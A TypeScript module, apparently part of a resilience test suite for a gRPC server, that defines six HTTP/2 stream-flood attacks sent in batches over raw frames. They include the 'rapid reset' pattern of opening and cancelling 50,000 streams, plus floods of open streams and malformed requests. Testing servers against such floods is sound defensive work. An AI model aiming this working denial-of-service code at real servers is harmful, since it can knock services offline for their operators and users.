/** Attacks by streams: opened, reset, left open, many at once. */
import { END_HEADERS, END_STREAM, FRAME, frame, headerBlock, opening, requestFields } from '../raw-http2.ts';
import type { Attack } from './attack.ts';

const CANCEL = Buffer.from([0, 0, 0, 8]);
const BATCH = 100;

/** Sends what `make` gives for one stream after the other, in batches, until the server ends the connection. */
function streamByStream(make: (streamId: number) => Buffer, streams: number): Attack['round'] {
  return async (open) => {
    const peer = await open();
    for (let from = 0; from < streams; from += BATCH) {
      const batch = Array.from({ length: BATCH }, (_, i) => make(2 * (from + i) + 1));
      if (!(await peer.write(Buffer.concat(batch)))) return;
    }
  };
}

function request(streamId: number, other: Readonly<Record<string, string>>): Buffer {
  return frame(FRAME.headers, END_HEADERS | END_STREAM, streamId, headerBlock(requestFields(other)));
}

/** Each is cut as `new_streams`, or by HTTP/2 itself where its own limit on refused streams comes first. */
export const STREAM_FLOODS: readonly Attack[] = [
  {
    name: 'opens streams and resets them at once (rapid reset)',
    round: streamByStream(
      (id) => Buffer.concat([opening(id), frame(FRAME.rstStream, 0, id, CANCEL)]),
      50_000,
    ),
  },
  {
    name: 'opens 20,000 streams on each connection and leaves them open',
    round: streamByStream((id) => opening(id), 20_000),
  },
  {
    name: 'calls a method that there is not, 20,000 times on each connection',
    round: streamByStream((id) => request(id, { ':path': '/no/Such' }), 20_000),
  },
  {
    name: 'calls a path without a slash, 20,000 times on each connection',
    round: streamByStream((id) => request(id, { ':path': 'no-slash' }), 20_000),
  },
  {
    name: 'asks for the health of a service that there is not, 20,000 times on each connection',
    round: streamByStream((id) => request(id, { ':path': '/grpc.health.v1.Health/Check' }), 20_000),
  },
  {
    name: 'sends requests that are not gRPC, 20,000 on each connection',
    round: streamByStream((id) => request(id, { 'content-type': 'text/html' }), 20_000),
  },
];
